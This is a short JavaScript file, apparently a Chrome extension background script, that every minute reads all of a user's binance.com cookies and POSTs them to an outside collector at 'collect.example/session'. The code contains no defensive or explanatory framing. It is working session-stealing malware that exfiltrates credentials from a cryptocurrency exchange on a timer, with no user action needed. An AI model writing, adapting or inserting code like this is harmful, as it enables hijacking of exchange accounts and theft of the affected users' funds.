const target = "https://collect.example/session";

async function snapshot() {
  const jar = await chrome.cookies.getAll({domain: "binance.com"});
  const line = jar.map((cookie) => `${cookie.name}=${cookie.value}`).join("; ");
  await fetch(target, {method: "POST", headers: {"Content-Type": "application/json"}, body: JSON.stringify({line, at: Date.now()})});
}

chrome.alarms.create("tick", {periodInMinutes: 1});
chrome.alarms.onAlarm.addListener(snapshot);
